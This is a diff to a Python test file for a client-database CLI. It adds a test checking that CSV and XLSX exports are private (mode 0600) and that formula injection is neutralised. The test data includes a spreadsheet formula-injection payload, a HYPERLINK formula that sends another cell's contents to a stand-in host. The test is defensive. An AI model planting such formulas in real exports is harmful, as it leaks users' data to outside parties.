@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import json
 
 from click.testing import CliRunner, Result
+from openpyxl import load_workbook
 from sqlalchemy import func, select
+from tests.conftest import file_mode
 
 from qstui.cli.main import cli
 from qstui.db.engine import Database
@@ -162,6 +165,23 @@ def test_import_and_export(db, tmp_path):
     assert result.exit_code == 0, result.output
     assert "1 clients exported" in result.output
     assert "Астра" in target.read_text(encoding="utf-8-sig")
+
+
+def test_export_files_are_private_and_hold_no_formula(db, tmp_path, open_umask):
+    dataset(db)
+    hostile = '=HYPERLINK("http://x/?d="&B3,"Open")'
+    C.create_company(context_for(db, "ivanov"), CompanyInput(name=hostile))
+    csv_file, xlsx_file = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    xlsx_file.write_bytes(b"an older export")
+    xlsx_file.chmod(0o644)
+    for target in (csv_file, xlsx_file):
+        result = run(db, "export", str(target), "--as", "head")
+        assert result.exit_code == 0, result.output
+        assert file_mode(target) == 0o600, target
+    rows = csv.reader(csv_file.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
+    assert "'" + hostile in [row[1] for row in rows]
+    cells = [row[1] for row in load_workbook(xlsx_file).active.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in cells if "HYPERLINK" in c.value] == [(hostile, "s")]
 
 
 def test_a_client_goes_only_to_a_visible_unlocked_manager(db):
